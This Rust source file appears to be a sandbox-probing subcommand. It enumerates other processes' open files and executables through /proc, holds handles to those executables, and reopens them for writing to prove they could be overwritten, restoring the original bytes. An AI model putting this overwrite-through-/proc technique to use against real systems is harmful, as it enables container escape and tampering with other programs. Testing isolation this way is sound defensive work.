//! Takes what it can of every other process that it sees: what `probe steal` does until it is killed.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

/// At most this many programs are held at a time.
const HELD: usize = 16;

/// Prints, once each: `fd TARGET` for an open file that is not one of the standard three, `exe TARGET` for a
/// program that is not this one, and `written TARGET` when such a program could be written to.
pub(crate) fn steal() -> io::Result<()> {
    let own = fs::read_link("/proc/self/exe")?;
    let mut said = BTreeSet::new();
    let mut held = Vec::new();
    say(&mut said, "ready".to_owned())?;
    loop {
        for process in others()? {
            for line in taken(&process, &own, &mut held) {
                say(&mut said, line)?;
            }
        }
        for line in held.iter().filter_map(overwrite) {
            say(&mut said, line)?;
        }
    }
}

fn say(said: &mut BTreeSet<String>, line: String) -> io::Result<()> {
    if said.contains(&line) {
        return Ok(());
    }
    let mut out = io::stdout();
    writeln!(out, "{line}")?;
    out.flush()?;
    said.insert(line);
    Ok(())
}

/// All processes but this one, which is the first.
fn others() -> io::Result<Vec<PathBuf>> {
    let is_other = |path: &PathBuf| {
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        name != "1" && name.parse::<u32>().is_ok()
    };
    Ok(fs::read_dir("/proc")?.flatten().map(|entry| entry.path()).filter(is_other).collect())
}

fn taken(process: &Path, own: &Path, held: &mut Vec<(PathBuf, File)>) -> Vec<String> {
    let mut lines = Vec::new();
    for entry in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
        let number = entry.file_name().to_string_lossy().parse().unwrap_or(0);
        let target = fs::read_link(entry.path()).unwrap_or_default();
        // Its own list of mappings, which a program reads when it begins.
        let is_its_own = target.starts_with("/proc") && target.ends_with("maps");
        if number > 2 && !target.as_os_str().is_empty() && !is_its_own {
            lines.push(format!("fd {}", kind(&target)));
        }
    }
    let exe = process.join("exe");
    let target = fs::read_link(&exe).unwrap_or_default();
    if !target.as_os_str().is_empty() && target != own {
        lines.push(format!("exe {}", target.display()));
        if let (true, Ok(file)) = (held.len() < HELD, File::open(&exe)) {
            held.push((target, file));
        }
    }
    lines
}

/// Sockets and the like without their numbers.
fn kind(target: &Path) -> String {
    let text = target.display().to_string();
    text.split_once(":[").map_or(text.clone(), |(kind, _)| kind.to_owned())
}

/// A program can be opened for writing when nobody executes it any more.
fn overwrite((target, file): &(PathBuf, File)) -> Option<String> {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let opened = OpenOptions::new().write(true).custom_flags(libc::O_NONBLOCK).open(path).ok()?;
    // Its first bytes again: nothing is broken by the proof.
    let mut bytes = [0; 4];
    file.read_exact_at(&mut bytes, 0).ok()?;
    opened.write_all_at(&bytes, 0).ok()?;
    Some(format!("written {}", target.display()))
}
